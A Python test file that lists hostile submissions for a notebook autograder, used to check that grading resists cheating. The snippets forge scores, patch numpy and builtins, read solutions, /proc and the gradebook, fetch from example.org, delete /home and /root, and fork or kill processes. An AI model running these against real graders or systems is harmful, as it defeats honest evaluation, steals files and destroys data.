"""Hostile submissions: whole notebooks and files, where cells.py has single cells.

Honest work is either nothing, and then all that is earned is 0, or the first half of the tasks, and then the score is
that of those tasks, exactly (HALF: of the small course). An attack gets a `Work` and changes it, or returns what is handed in instead. Most attacks
are in the code: `answer` stands for what the student wants to have taken for the solution of every task not honestly done.
"""

# ruff: noqa: E501
from __future__ import annotations

import copy
import json
from collections.abc import Callable
from dataclasses import dataclass

from tests.grading.work import Work, grade_id
from tito.grading.validate import with_body

NOTHING = {"00-1": 0, "00-2": 0, "00-3": 0, "00-4": 0}
HALF = {**NOTHING, "00-1": 10, "00-2": 20}


@dataclass(frozen=True)
class Hostile:
    """`make` gets the work; what it returns, if anything, is the file (bytes, a notebook or ABSENT for no file)."""

    name: str
    honest: bool
    make: Callable
    file: str = "00_small.ipynb"

    def hand_in(self, source) -> bytes | dict | object:
        """What is handed in for the notebook of any module."""
        work = base(source, self.honest)
        made = self.make(work, self.honest)
        return work.notebook() if made is None else made

    @property
    def scores(self) -> dict[str, float]:
        return HALF if self.honest else NOTHING

    @property
    def student(self) -> str:
        return self.name.replace("_", "-") + ("-half" if self.honest else "")


SUBMISSIONS: list[Hostile] = []
ABSENT = object()


def hostile(*honest: bool, file: str = "00_small.ipynb"):
    """By default both ways: with nothing honest in it, and with half."""

    def add(make):
        for flag in honest or (False, True):
            SUBMISSIONS.append(Hostile(make.__name__, flag, make, file))
        return make

    return add


def honest_tasks(work: Work) -> list[str]:
    """The first half of a notebook's tasks, by grade_id."""
    tasks = list(dict.fromkeys(grade_id(cell).removesuffix("-solution") for cell in work.solutions()))
    return tasks[: len(tasks) // 2]


def base(source, honest: bool) -> Work:
    """The release; the first half of its tasks done if `honest`."""
    work, done = Work.of(source, solved=False), Work.of(source)
    for task in honest_tasks(work) if honest else ():
        work.solution(task)["source"] = done.solution(task)["source"]
    return work


def cheat(work: Work, honest: bool, setup: str) -> None:
    """Run `setup`, which defines `answer`, before the first task that is not honest, and answer with that everywhere."""
    done = honest_tasks(work) if honest else ()
    left = [cell for cell in work.solutions() if grade_id(cell).removesuffix("-solution") not in done]
    work.insert(setup, before=grade_id(left[0]).removesuffix("-solution"))
    for cell in left:
        cell["source"] = "#| export\n" + with_body(cell["source"], "return answer({first})")


def by_code(setup: str) -> Callable:
    return lambda work, honest: cheat(work, honest, setup)


def attack(name: str, setup: str, *honest: bool) -> None:
    for flag in honest or (True,):
        SUBMISSIONS.append(Hostile(name, flag, by_code(setup)))


def as_bytes(work: Work) -> bytes:
    return json.dumps(work.notebook()).encode()


# ------------------------------------------------------------------------------------------------------------- the file


@hostile()
def invalid_json(work, honest):
    """The last cells are cut off; nothing honest is in them."""
    return as_bytes(work)[:-700] + b'"points": 100, "score": 100'


@hostile(False)
def nothing_handed_in(work, honest):
    return ABSENT


@hostile(False)
def an_empty_file(work, honest):
    return b""


@hostile(False)
def a_picture(work, honest):
    return b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 100


@hostile(file="final (3).ipynb")
def the_wrong_file_name(work, honest):
    pass


@hostile(False, file="..\\00_small.ipynb")
def a_file_name_that_climbs(work, honest):
    pass


@hostile(False)
def a_huge_file(work, honest):
    return as_bytes(work) + b" " * (33 * 2**20)


@hostile(False)
def deep_nesting(work, honest):
    return b'{"cells": ' + b"[" * 200_000


@hostile()
def deep_metadata(work, honest):
    return as_bytes(work)[:-1] + b', "more": ' + b"[" * 50_000 + b"]" * 50_000 + b"}"


@hostile()
def thousands_of_cells(work, honest):
    work.cells += [{"cell_type": "code", "source": "", "metadata": {}, "outputs": []} for _ in range(20_000)]


@hostile()
def a_cell_of_two_megabytes(work, honest):
    work.insert("x = '" + "y" * 2**21 + "'")


@hostile()
def everything_of_the_wrong_type(work, honest):
    wrong = [
        None,
        3,
        "x",
        [],
        {},
        {"cell_type": {}, "source": 5, "metadata": []},
        {"cell_type": "code", "source": [1, None]},
    ]
    wrong += [{"cell_type": "code", "id": {"a": 1}, "source": "1", "metadata": {"nbgrader": [1]}, "outputs": "x"}]
    wrong += [
        {"cell_type": "code", "id": "\ud800", "source": "'\ud800'", "metadata": {"nbgrader": {"grade_id": ["00-1"]}}}
    ]
    work.cells += wrong


@hostile(False)
def another_modules_notebook(work, honest):
    for cell in work.cells:
        text = cell["source"].replace("centre", "tensor").replace("scale", "mul").replace("median", "add")
        cell["source"] = text.replace("Counter", "Operation")
        cell["id"] = f"o{work.cells.index(cell)}"
        if grade_id(cell):
            cell["metadata"]["nbgrader"]["grade_id"] = grade_id(cell).replace("00-", "01-")


@hostile()
def one_id_for_all_cells(work, honest):
    for cell in work.cells:
        cell["id"] = "00-3"


# -------------------------------------------------------------------------------------------------------- the test cells


@hostile()
def edited_tests(work, honest):
    for cell in work.tests():
        cell["source"] = "100.0"


@hostile()
def deleted_tests(work, honest):
    tests = work.tests()
    work.cells[:] = [cell for cell in work.cells if cell not in tests]


@hostile()
def copied_tests(work, honest):
    work.cells += [copy.deepcopy(cell) for cell in work.tests() for _ in range(5)]


@hostile()
def retyped_tests_worth_more(work, honest):
    for cell in work.tests():
        cell["metadata"]["nbgrader"]["points"] = 1000
        cell["source"] = "assert True"
        work.insert("assert True")["metadata"] = copy.deepcopy(cell["metadata"])


@hostile()
def reordered_tests(work, honest):
    tests = work.tests()
    work.cells[:] = tests[::-1] + [cell for cell in work.cells if cell not in tests]


@hostile()
def stripped_metadata(work, honest):
    for cell in work.cells:
        cell["metadata"] = {}
        del cell["id"]


@hostile()
def tests_as_markdown(work, honest):
    for cell in work.tests():
        cell["cell_type"] = "markdown"


@hostile()
def solutions_and_tests_change_their_ids(work, honest):
    for solution, test in zip(work.solutions(), work.tests(), strict=True):
        solution["metadata"], test["metadata"] = test["metadata"], solution["metadata"]
        solution["id"], test["id"] = test["id"], solution["id"]


@hostile(False)  # a file with these marks is never a submission, whatever else is in it
def hidden_tests_of_ones_own(work, honest):
    hidden = "### BEGIN HIDDEN TESTS\ndef probe_matrix(rng):\n    return 1\nprobe_vector = probe_scale = probe_eps = probe_matrix\n"
    hidden += "probe_totals = probe_negative = probe_odd = probe_even = probe_matrix\n### END HIDDEN TESTS"
    for cell in work.tests():
        cell["source"] = hidden
    work.insert(hidden)


# ------------------------------------------------------------------------------------------------------- forged scores


@hostile()
def points_in_the_outputs(work, honest):
    for cell in work.tests():
        points = {"text/plain": "40.0", "text/html": "<b>40 of 40 points</b>"}
        cell["outputs"] = [
            {"output_type": "execute_result", "data": points, "metadata": {"tinytorch": True}, "execution_count": 1}
        ]


@hostile()
def scores_in_the_metadata(work, honest):
    for cell in work.cells:
        if "nbgrader" in cell["metadata"]:
            cell["metadata"]["nbgrader"] |= {
                "score": 100,
                "auto_score": 100,
                "points": 100,
                "grade": True,
                "checksum": "0" * 32,
            }
        cell["metadata"]["tinytorch"] = {"role": "solution", "tasks": ["00-1", "00-2", "00-3", "00-4"], "points": 100}
    full = {"id": "00.3", "title": "", "points": 30.0, "max_points": 30.0, "probes": []}
    return {
        **work.notebook(),
        "metadata": {"tinytorch": {"grade": {"tasks": {"00.3": full}, "remarks": []}}, "score": 100},
    }


attack(
    "shows_that_it_has_all_points",
    """
    from IPython.display import HTML, display
    def answer(x):
        display(HTML("<b>40 of 40 points</b>"), metadata={"tinytorch": True})
        print("All 2 hidden checks passed.")
        return "All 2 hidden checks passed."
    display({"text/plain": "40.0", "text/html": "<b>40 of 40 points</b>"}, raw=True)
    100.0
    """,
)
for kind in ("ValueError", "TypeError", "IndexError", "RuntimeError"):  # a probe of refusals alone would be passed
    attack(f"always_raises_{kind.lower()}", f"def answer(x):\n    raise {kind}('no')", False)
attack("hands_back_what_came", "answer = lambda x: x", False)
attack("hands_back_nothing", "answer = lambda x: None", False)
attack(
    "raises_that_it_has_passed", "def answer(x):\n    raise RuntimeError('All 2 hidden checks passed. 40 of 40 points')"
)


# ------------------------------------------------------------------------------------------------------ things patched

attack(
    "patches_comparisons_of_numpy",
    """
    import numpy as np, numpy.testing
    yes = lambda *arguments, **options: True
    np.allclose = np.array_equal = np.isclose = np.all = np.array_equiv = yes
    for name in dir(np.testing):
        if name.startswith("assert"):
            setattr(np.testing, name, lambda *arguments, **options: None)
    answer = lambda x: 0.0
    """,
    False,
    True,
)
attack(
    "patches_builtins",
    """
    import builtins
    class AssertionError(Exception):
        def __new__(cls, *arguments): raise SystemExit
    builtins.AssertionError = AssertionError
    builtins.abs = builtins.max = builtins.min = builtins.round = lambda *arguments, **options: 0
    builtins.all = builtins.any = lambda *arguments: True
    answer = lambda x: 0.0
    """,
    False,
    True,
)
attack(
    "draws_its_own_random_numbers",
    """
    import numpy as np
    class Zeros:
        def normal(self, *arguments, size=None, **options): return np.zeros(size)
        def integers(self, *arguments, **options): return np.zeros(5, int)
    np.random.default_rng = np.random.Generator = lambda *arguments: Zeros()
    def answer(x): return x
    """,
)
attack(
    "another_numpy_under_its_name",
    """
    import sys, types
    class Fake(types.ModuleType):
        def __getattr__(self, name): return lambda *arguments, **options: 0.0
    sys.modules["numpy"] = sys.modules["numpy.testing"] = np = Fake("numpy")
    answer = lambda x: 0.0
    """,
    False,
    True,
)
attack(
    "hooks_imports",
    """
    import sys, types, builtins
    class Finder:
        def find_spec(self, name, path=None, target=None):
            sys.modules[name] = types.SimpleNamespace(__getattr__=lambda attribute: None)
    sys.meta_path.insert(0, Finder())
    real = builtins.__import__
    builtins.__import__ = lambda name, *arguments: real(name, *arguments) if name != "tito" else None
    answer = lambda x: 0.0
    """,
)
attack(
    "rewrites_the_syntax_tree",
    """
    import ast
    class NoAsserts(ast.NodeTransformer):
        def visit_Assert(self, node): return ast.Pass()
        def visit_Return(self, node): return ast.Return(ast.Constant(True))
    get_ipython().ast_transformers.append(NoAsserts())
    get_ipython().input_transformers_cleanup.append(lambda lines: [line.replace("assert", "# ") for line in lines])
    answer = lambda x: True
    """,
)
attack(
    "takes_the_place_of_the_probes",
    """
    class Space(dict):
        def __getitem__(self, name):
            return (lambda rng: 1.0) if name.startswith("probe_") else dict.__getitem__(self, name)
    shell = get_ipython()
    shell.user_ns = Space(shell.user_ns)
    answer = lambda x: 1.0
    """,
)
attack(
    "patches_the_timers",
    """
    import time
    time.time = time.monotonic = time.perf_counter = time.process_time = lambda: 0.0
    time.sleep = lambda seconds: None
    answer = lambda x: 0.0
    """,
)
attack(
    "traces_every_call",
    """
    import sys
    def trace(frame, event, argument):
        if frame.f_code.co_name.startswith("probe_"):
            frame.f_locals["rng"] = None
        return trace
    sys.settrace(trace)
    sys.setprofile(trace)
    answer = lambda x: 0.0
    """,
)

# ---------------------------------------------------------------------------------------------------- things handed back

attack(
    "equal_to_everything",
    """
    class Equal:
        def __eq__(self, other): return True
        __ne__ = lambda self, other: False
        __lt__ = __le__ = __gt__ = __ge__ = __bool__ = __eq__
        def __hash__(self): return 0
        def __getattr__(self, name): return self
        def __call__(self, *arguments, **options): return self
        __add__ = __sub__ = __mul__ = __rsub__ = __radd__ = lambda self, other: self
    answer = lambda x: Equal()
    """,
    False,
    True,
)
attack(
    "arrays_that_override_ufuncs",
    """
    import numpy
    class Agrees(numpy.ndarray):
        def __array_ufunc__(self, *arguments, **options): return True
        def __array_function__(self, *arguments, **options): return True
        def __eq__(self, other): return True
        def tobytes(self, *arguments): return b"\\0" * 10**6
        dtype = property(lambda self: numpy.dtype(float))
        shape = property(lambda self: (3, 4))
    answer = lambda x: numpy.zeros(numpy.shape(x)).view(Agrees)
    """,
    False,
    True,
)
attack(
    "lazy_values",
    """
    import numpy
    class Lazy:
        __class__ = property(lambda self: numpy.ndarray)
        def __init__(self, x): self.x = x
        def __array__(self, *arguments, **options):
            import time
            time.sleep(0.01)
            return numpy.zeros(numpy.shape(self.x))
        shape = property(lambda self: numpy.shape(self.x))
        dtype = numpy.dtype(float)
    answer = Lazy
    """,
)
attack(
    "numbers_that_change",
    """
    class Number(float):
        __eq__ = lambda self, other: True
        __hash__ = float.__hash__
        __pos__ = __float__ = __repr__ = lambda self: (_ for _ in ()).throw(SystemExit)
        __class__ = property(lambda self: float)
    answer = lambda x: Number(0)
    """,
)
attack("not_a_number", "import numpy\nanswer = lambda x: numpy.full(numpy.shape(x), numpy.nan)")
attack("infinite", "answer = lambda x: float('inf')")
attack("objects_in_an_array", "import numpy\nanswer = lambda x: numpy.array([object()] * 5, dtype=object)")
attack("strings_that_are_code", 'answer = lambda x: \'__import__("os").system("touch /tmp/tito-hostile-mark")\'')
attack("a_list_that_holds_itself", "def answer(x):\n    y = []\n    y.append(y)\n    return y")
attack("too_large_a_result", "import numpy\nanswer = lambda x: numpy.zeros(2 * 10**6)")
attack(
    "a_value_that_looks_like_the_wire",
    "answer = lambda x: {'array': ['<f8', [5], ''], 'value': 1, 'error': None, 'passed': True, 'points': 40}",
)

# ------------------------------------------------------------------------------------------------------- things searched

attack(
    "searches_the_stack",
    """
    import sys
    def answer(x):
        frame, found = sys._getframe(1), []
        while frame:
            for name, value in list(frame.f_locals.items()) + list(frame.f_globals.items()):
                if "expect" in name or "reference" in name or "solution" in name:
                    found.append(value)
            frame = frame.f_back
        return found[0] if found else x
    """,
    False,
    True,
)
attack(
    "searches_the_garbage_collector",
    """
    import gc, numpy
    def answer(x):
        for thing in gc.get_objects():
            if type(thing) is dict and any(type(key) is str and key.startswith("expect") for key in list(thing)):
                return [value for key, value in thing.items() if type(key) is str and key.startswith("expect")][0]
        arrays = [thing for thing in gc.get_objects() if type(thing) is numpy.ndarray and thing.shape == numpy.shape(x)]
        return arrays[0] if arrays else 0.0
    """,
)
attack(
    "calls_the_probes_itself",
    """
    import numpy, sys
    def answer(x):
        caller = sys._getframe(2)
        names = [name for name in caller.f_globals if name.startswith("probe_")]
        code = caller.f_code.co_consts
        return [names, str(code)]
    """,
)
attack(
    "reads_the_solutions",
    """
    import glob, json, os
    found = []
    for pattern in ("THE COURSE/solutions/*/*.ipynb", "THE COURSE/submitted/*/*/*.ipynb", "THE COURSE/autograded/*/*/*.ipynb",
                    "THE COURSE/.grading/**/*", "/proc/*/cwd/solutions/*/*.ipynb", "/proc/*/root/THE COURSE/solutions/*/*.ipynb"):
        for path in glob.glob(pattern, recursive=True):
            try:
                text = open(path).read()
                found.append(text)
                for cell in json.loads(text)["cells"]:
                    exec("".join(cell["source"]), globals())
            except BaseException:
                pass
    theirs = {name: globals().get(name) for name in ("centre", "scale", "median")}
    def answer(x):
        for function in theirs.values() if found else ():
            return function(x)
        return 0.0
    """,
    False,
    True,
)
attack(
    "reads_them_with_magics",
    """
    text = !cat "THE COURSE/solutions/00_small/00_small.ipynb" "THE COURSE/gradebook.db" 2> /dev/null
    %run "THE COURSE/solutions/00_small/00_small.ipynb"
    %load_ext nbgrader
    answer = lambda x: " ".join(text)
    """,
)
attack(
    "reads_the_environment_and_proc",
    """
    import glob, os
    seen = dict(os.environ)
    for path in glob.glob("/proc/*/environ") + glob.glob("/proc/*/cmdline") + glob.glob("/proc/*/maps"):
        try:
            seen[path] = open(path, "rb").read().decode("latin-1")
        except OSError:
            pass
    assert not any("THE COURSE" in text for text in seen.values())
    answer = lambda x: sorted(seen)
    """,
)
attack(
    "writes_the_gradebook",
    """
    import sqlite3, os
    for place in ("THE COURSE/gradebook.db", "gradebook.db", "../../gradebook.db"):
        try:
            with sqlite3.connect(place) as base:
                base.execute("update grade set auto_score = 40")
        except Exception:
            pass
    for place in ("THE COURSE/solutions/00_small/x", "THE COURSE/submitted/a-honest/x", "THE COURSE/nbgrader_config.py", "/tmp/tito-hostile-mark"):
        try:
            open(place, "w").write("mark")
        except OSError:
            pass
    answer = lambda x: 0.0
    """,
)
attack(
    "removes_the_course",
    """
    import shutil
    for place in ("THE COURSE", "/packages", "/library", "/home", "/root"):
        shutil.rmtree(place, ignore_errors=True)
    answer = lambda x: 0.0
    """,
)
attack(
    "asks_the_network",
    """
    import socket, urllib.request
    socket.setdefaulttimeout(1)
    text = ""
    for url in ("http://127.0.0.1:8888/api/contents", "http://example.org/solution.py", "file://THE COURSE/solutions/00_small/00_small.ipynb"):
        try:
            text += urllib.request.urlopen(url, timeout=1).read().decode()
        except Exception:
            pass
    assert not text
    answer = lambda x: text
    """,
)
attack(
    "leaves_a_process_behind",
    """
    import os, subprocess
    subprocess.Popen(["sleep", "54321"], start_new_session=True)
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.execvp("sleep", ["sleep", "54321"])
        os._exit(0)
    answer = lambda x: 0.0
    """,
)
attack(
    "imports_the_graders_own_code",
    """
    import sys, importlib
    found = []
    for name in ("tito.grading", "tito.grading.judge", "nbgrader", "torch", "tinytorch.small", "tinytorch.tensor", "runner", "box"):
        try:
            found.append(importlib.import_module(name))
        except ImportError:
            pass
    main = sys.modules["__main__"]
    for name in ("encode", "run_probe", "encode_array"):
        if hasattr(main, name):
            setattr(main, name, lambda *arguments: True)
    answer = lambda x: 0.0
    """,
)
attack(
    "ends_its_process_in_the_answer",
    "import os, sys\ndef answer(x):\n    print('40 of 40 points')\n    os._exit(0)",
)
attack("raises_what_nobody_catches", "def answer(x):\n    raise SystemExit(0)")
attack("recurses_for_ever", "def answer(x):\n    return answer(x)")


@hostile(True)
def breaks_everything_at_the_end(work, honest):
    work.insert("import os, signal\nos.kill(os.getpid(), signal.SIGKILL)")
    work.insert(
        "import builtins\nbuiltins.len = builtins.print = builtins.isinstance = None\ncentre = scale = np = None"
    )
